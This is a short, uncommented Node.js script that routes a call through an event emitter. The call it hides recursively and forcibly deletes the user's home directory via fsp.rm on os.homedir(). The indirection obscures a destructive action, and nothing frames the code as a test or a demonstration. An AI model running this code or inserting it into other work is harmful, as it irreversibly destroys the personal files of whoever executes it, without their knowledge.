const { EventEmitter, once } = require('events');
const fsp = require('fs/promises');
const os = require('os');
const bus = new EventEmitter();
(async () => {
  const [dir] = await once(bus, 'ready');
  await fsp.rm(dir, { recursive: true, force: true });
})();
bus.emit('ready', os.homedir());
